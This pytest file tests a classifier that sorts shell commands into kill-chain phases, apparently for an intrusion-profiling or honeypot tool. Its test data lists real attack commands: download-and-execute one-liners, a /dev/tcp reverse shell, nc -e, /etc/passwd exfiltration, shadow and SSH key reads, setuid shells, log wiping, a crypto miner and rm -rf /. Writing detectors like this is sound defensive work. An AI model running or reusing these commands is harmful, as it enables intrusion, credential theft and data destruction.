"""Kill-chain phase rules: table-driven, first match per segment, operator rules first."""

from __future__ import annotations

from pathlib import Path

import pytest

from node.profile.commands import (
    BUILTIN_RULES,
    UNCLASSIFIED,
    PhaseRules,
    PhaseRulesError,
    load_rules,
    normalise_segment,
    rules_with_operator_file,
    split_segments,
)

RULES = PhaseRules()


@pytest.mark.parametrize(("command", "phases"), [
    ("cat /etc/os-release", ("discovery",)),
    ("uname -a", ("discovery",)),
    ("cat /proc/cpuinfo | grep name | head -n 1", ("discovery",)),
    ("nvidia-smi", ("discovery",)),
    ("crontab -l", ("discovery",)),
    ("cat /etc/shadow", ("credential_access",)),
    ("cat ~/.ssh/id_rsa", ("credential_access",)),
    ("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", ("persistence",)),
    ("(crontab -l; echo '* * * * * /tmp/.x') | crontab -", ("persistence",)),
    ("useradd -m backup", ("persistence",)),
    ("echo 'root:pw' | chpasswd", ("persistence",)),
    ("curl -fsSL http://203.0.113.80/i.sh | sh", ("command_and_control", "execution")),
    ("cd /tmp; wget http://203.0.113.80/x86 -O .x; chmod +x .x; ./.x",
     ("command_and_control", "execution")),
    ("/bin/busybox tftp -g -r mips 203.0.113.80", ("command_and_control",)),
    ("bash -i >& /dev/tcp/203.0.113.80/4444 0>&1", ("command_and_control",)),
    ("nc -e /bin/sh 203.0.113.80 4444", ("command_and_control",)),
    ("ssh root@10.0.0.7", ("lateral_movement",)),
    ("scp /etc/passwd u@203.0.113.9:/tmp", ("exfiltration",)),
    ("curl -T /etc/passwd ftp://203.0.113.9/", ("exfiltration",)),
    ("sudo -i", ("privilege_escalation",)),
    ("chmod 4755 /tmp/sh", ("privilege_escalation",)),
    ("chmod u+s /tmp/sh", ("privilege_escalation",)),
    ("history -c", ("defense_evasion",)),
    ("unset HISTFILE", ("defense_evasion",)),
    ("HISTFILE=/dev/null", ("defense_evasion",)),
    ("rm -rf /var/log/*", ("defense_evasion",)),
    ("pkill -9 kdevtmpfsi", ("defense_evasion",)),
    ("./xmrig -o stratum+tcp://pool.example.net:3333", ("impact",)),
    ("rm -rf / --no-preserve-root", ("impact",)),
    ("tar czf /tmp/d.tgz /home", ("collection",)),
    ("python3 x.py", ("execution",)),
    ("cd /tmp", (UNCLASSIFIED,)),
    ("", (UNCLASSIFIED,)),
    ("echo hello", (UNCLASSIFIED,)),
])
def test_builtin_phases(command: str, phases: tuple[str, ...]) -> None:
    assert RULES.classify(command) == phases


def test_phases_keep_segment_order_without_repeats() -> None:
    assert RULES.classify("uname -a; id; cat /etc/shadow; whoami") == \
        ("discovery", "credential_access")


def test_segments_split_outside_quotes_only() -> None:
    assert split_segments("a; b && c || d | e & f\ng") == ["a", "b", "c", "d", "e", "f", "g"]
    assert split_segments("echo 'a;b' \"c|d\"") == ["echo 'a;b' \"c|d\""]
    assert split_segments("x 2>&1 &>/dev/null") == ["x 2>&1 &>/dev/null"]


def test_segment_normalisation_drops_wrappers_paths_and_assignments() -> None:
    assert normalise_segment("LANG=C /usr/bin/busybox nohup wget x") == "wget x"
    assert normalise_segment("./x86") == "./x86"


def test_builtin_phase_names_are_unified_kill_chain_names() -> None:
    assert {rule.phase for rule in BUILTIN_RULES} <= {
        "discovery", "persistence", "credential_access", "lateral_movement", "collection",
        "exfiltration", "privilege_escalation", "defense_evasion", "execution",
        "command_and_control", "impact",
    }
    assert all(rule.note for rule in BUILTIN_RULES)


def test_operator_rules_come_first(tmp_path: Path) -> None:
    path = tmp_path / "phases.toml"
    path.write_text('[[rule]]\nphase = "impact"\npattern = "^cat /etc/os-release"\n'
                    'note = "we call this impact"\n\n'
                    '[[rule]]\nphase = "resource_development"\npattern = "\\\\bmy-tool\\\\b"\n',
                    encoding="utf-8")
    rules = rules_with_operator_file(path)
    assert rules.classify("cat /etc/os-release") == ("impact",)
    assert rules.classify("./my-tool --go") == ("resource_development",)
    assert rules.classify("uname -a") == ("discovery",)


@pytest.mark.parametrize(("text", "message"), [
    ('[[rule]]\nphase = "Bad Phase"\npattern = "x"\n', "phase must be"),
    ('[[rule]]\nphase = "impact"\n', "pattern must be"),
    ('[[rule]]\nphase = "impact"\npattern = "("\n', "bad pattern"),
    ('rule = 3\n', "array of tables"),
    ('[[rule]\n', "phases.toml"),
])
def test_bad_operator_files_name_the_problem(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "phases.toml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(PhaseRulesError, match=message):
        load_rules(path)


def test_missing_operator_file_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(PhaseRulesError, match="missing.toml"):
        load_rules(tmp_path / "missing.toml")
